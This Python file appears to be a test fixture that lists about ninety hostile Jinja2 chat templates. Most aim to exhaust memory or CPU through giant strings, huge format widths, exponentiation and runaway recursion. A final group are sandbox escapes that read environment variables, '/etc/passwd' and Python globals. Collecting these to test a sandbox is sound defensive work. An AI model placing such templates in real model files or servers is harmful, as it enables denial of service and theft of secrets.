"""Chat templates that try to exhaust memory or time, by name."""

from __future__ import annotations

LARGE = "{% set s = ('ab '*1000)*20000 %}"  # 60 million characters
LIST = "{% set l = range(99999)|list %}{% set l = l*100 %}"


def many(part: str, count: int) -> str:
    """Repeats `part`, with # replaced by its number."""
    return "".join(part.replace("#", str(i)) for i in range(count))


def nested(opening: str, inside: str, closing: str, depth: int) -> str:
    return opening * depth + inside + closing * depth


def doubling(what: str, start: str = "'ab'") -> str:
    loop = "{% for i in range(999) %}{% set ns.x = " + what + " %}{% endfor %}"
    return "{% set ns = namespace(x=" + start + ") %}" + loop + "{{ ns.x|length }}"


ATTACKS = {
    # eight known ones
    "width by name": "{{ '%(a)300000000d' % {'a': 1} }}",
    "indent of tojson": "{{ range(20000)|list|tojson(indent='a'*20000) }}",
    "slices": "{% set s = ('x'*1000)*100000 %}" + many("{% set a# = s[1:] %}", 30),
    "in": "{% set s = ('ab'*1000)*50000 %}" + many("{% set a# = 'bb' in s %}", 200),
    "title": "{% set s = ('aa '*1000)*20000 %}{% set x = s|title %}",
    "split": "{% set s = ('aa '*1000)*40000 %}{% set x = s.split() %}",
    "compile": "{% set a = 1 %}" * 66000,
    "nested list": "{{ " + nested("[", "", "]", 3000) + " }}",
    # texts
    "repeated text": "{{ 'x' * 10**12 }}",
    "repeated in steps": many("{% set a# = 'x' * 200000000 %}", 40),
    "doubled text": doubling("ns.x + ns.x"),
    "doubled by ~": doubling("ns.x ~ ns.x"),
    "doubled by a block": "{% set ns = namespace(x='ab') %}{% for i in range(99) %}"
    "{% set ns.x %}{{ ns.x }}{{ ns.x }}{% endset %}{% endfor %}",
    "steps of a slice": LARGE + many("{% set a# = s[::2] %}", 80),
    "a slice backwards": LARGE + "{% for i in range(99999) %}{% set a = s[::-1] %}{% endfor %}",
    "equal texts": LARGE
    + "{% set t = s[:-1] ~ 'x' %}{% for i in range(99999) %}{{ 1 if s == t }}{% endfor %}",
    "texts in order": LARGE
    + "{% set t = s ~ 'x' %}{% for i in range(99999) %}{{ 1 if s < t }}{% endfor %}",
    "not in": "{% set s = 'a'*40000000 %}{% for i in range(99999) %}"
    "{{ 1 if ('a'*9999 ~ 'b') not in s }}{% endfor %}",
    "find": "{% set s = 'a'*20000000 %}{% for i in range(99999) %}"
    "{{ s.find('a'*9999 ~ 'b' ~ 'a'*9999) }}{% endfor %}",
    "count": LARGE + "{% for i in range(99999) %}{{ s.count('b a') }}{% endfor %}",
    "upper": LARGE + many("{% set a# = s.upper() %}", 60),
    "case of wide characters": "{% set s = 'ŉ'*40000000 %}{% set t = s.upper() %}{{ t|length }}",
    "replace method": "{{ ('a'*99999).replace('a', 'b'*99999)|length }}",
    "replace of nothing": LARGE + "{{ s.replace('', 'x'*1000)|length }}",
    "replace filter": "{{ ('a'*99999)|replace('a', 'b'*99999)|length }}",
    "join method": "{{ ('x'*99999).join('a'*99999)|length }}",
    "join filter": "{{ range(99999)|join('x'*99999)|length }}",
    "splitlines": "{{ ('\n'*100000000).splitlines()|length }}",
    "partition": LARGE + many("{% set a# = s.partition('zz')[0] ~ 'x' %}", 60),
    "wide characters": "{{ ('😀'*90000000)|length }}{{ ('😀'*90000000 ~ 'x')|length }}",
    "astral doubling": doubling("ns.x ~ '😀' ~ ns.x"),
    # formats
    "width of %": "{{ '%999999999d' % 1 }}",
    "precision of %": "{{ '%.999999999f' % 1 }}",
    "width by star": "{{ '%*d' % (2000000000, 1) }}",
    "format filter": "{{ '%(a)2000000000s'|format(a=1) }}",
    "many widths": "{{ ('%50000000d' * 40) % ((1,) * 40) }}",
    "format method": "{{ '{:>2000000000}'.format(1) }}",
    "format map": "{{ '{a:>2000000000}'.format_map({'a': 1}) }}",
    "date": "{{ strftime_now('%c' * 90)|length }}{{ strftime_now('x'*10**9) }}",
    # filters
    "center": "{{ 'x'|center(2000000000) }}",
    "wordwrap": "{{ ('x '*9999999)|wordwrap(1) }}",
    "indent": "{{ ('\n'*99999)|indent(99999)|length }}",
    "indent by text": "{{ ('\n'*9999999)|indent('x'*9999999)|length }}",
    "truncate": LARGE + "{{ s|truncate(2000000000, end='x'*1000000000) }}",
    "batch": "{{ [1]|batch(2000000000, 0)|list|length }}",
    "slice filter": "{{ [1]|slice(2000000000)|list|length }}",
    "sort": LIST + "{% for i in range(99) %}{{ l|sort|length }}{% endfor %}",
    "sort with keys of text": "{% set l = ['ab'*9999999]*999 %}{{ l|sort|length }}",
    "groupby": "{% set l = [{'a': 'x'*999999}]*99999 %}{{ l|groupby('a')|length }}",
    "unique": LIST + "{{ l|map('string')|unique|list|length }}",
    "sum of lists": "{{ ([[0]*999]*9999)|sum(start=[])|length }}",
    "maps of maps": "{{ range(99999)|map('list')|select('in', range(99999)|list)|list }}",
    "pretty json": "{{ ([[[[0]]]]*99999)|tojson(indent=1000000)|length }}",
    "json separators": "{{ range(99999)|list|tojson(separators=('x'*99999, ':'))|length }}",
    "title of a large text": LARGE + "{{ s|title|length }}",
    "wordcount": LARGE + "{% for i in range(999) %}{{ s|wordcount }}{% endfor %}",
    # numbers
    "power": "{{ 9**(9**9) }}",
    "power at compile time": "{% if 9**(9**9) > 1 %}x{% endif %}",
    "squares": doubling("ns.x * ns.x", "9**999"),
    "digits": "{{ ('9'*4000000)|int }}",
    "sums of large numbers": "{% set ns = namespace(x=9) %}{% for a in range(99999) %}"
    "{% for b in range(99999) %}{% set ns.x = ns.x + ns.x %}{% endfor %}{% endfor %}",
    # lists, loops, macros
    "repeated list": "{{ ([0]*99999*99999)|length }}",
    "list in a list": doubling("[ns.x, ns.x]") + "{{ ns.x }}",
    "equal lists": "{% set ns = namespace(x=[0], y=[0]) %}{% for i in range(60) %}"
    "{% set ns.x = [ns.x, ns.x] %}{% set ns.y = [ns.y, ns.y] %}{% endfor %}{{ ns.x == ns.y }}",
    "dictionaries": "{% set ns = namespace(x={}) %}{% for i in range(99999) %}"
    "{% set ns.x = dict(ns.x, **{'k' ~ i: i}) %}{% endfor %}",
    "loops": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "recursive loop": "{% for a in [[1]]*99 recursive %}{{ loop([[1]]*99) }}{% endfor %}",
    "macro without end": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "macro of a tree": "{% macro f(n) %}{% if n %}{{ f(n-1) }}{{ f(n-1) }}{% endif %}{% endmacro %}"
    "{{ f(60) }}",
    "cycler": "{% set c = cycler(*range(99999)) %}{% for a in range(99999) %}"
    "{% for b in range(99999) %}{{ c.next() }}{% endfor %}{% endfor %}",
    "joiner": "{% set j = joiner('x'*99999999) %}{% for a in range(99999) %}{{ j() }}{% endfor %}",
    "output": "{% for a in range(99999) %}{{ 'x'*9999 }}{% endfor %}",
    # compiling
    "nested parentheses": "{{ " + nested("(", "1", ")", 20000) + " }}",
    "nested blocks": nested("{% if 1 %}", "", "{% endif %}", 3000),
    "nested loops": nested("{% for a in [1] %}", "x", "{% endfor %}", 60),
    "many blocks": many("{% block b# %}{{ # }}{% endblock %}", 15000),
    "many macros": many("{% macro m#(a) %}{{ a }}{% endmacro %}", 10000),
    "long expression": "{{ " + "1 + " * 100000 + "1 }}",
    "long concatenation": "{{ " + "a ~ " * 100000 + "'' }}",
    "many filters": "{{ 'x'" + "|upper" * 60000 + " }}",
    "large constant": "{{ '" + "x" * 900000 + "'|length }}{{ " + "1" * 90000 + " }}",
    "folded constant": many("{{ ('a'*100000000)|length }}", 50),
    "open tags": "{{ " * 300000,
    "comments": "{#" * 490000,
    "spaces": "{{ 1" + " " * 900000 + "!",
    # access to Python's internals
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ cycler.__init__.__globals__.os.environ }}",
    "attributes by filter": "{{ [cycler]|map(attribute='__init__.__globals__')|list }}",
    "import": "{% import 'os' as os %}{{ os.environ }}",
    "include": "{% include '/etc/passwd' %}",
    "frames": "{{ (range(1)|map('upper')).gi_frame.f_globals }}",
}
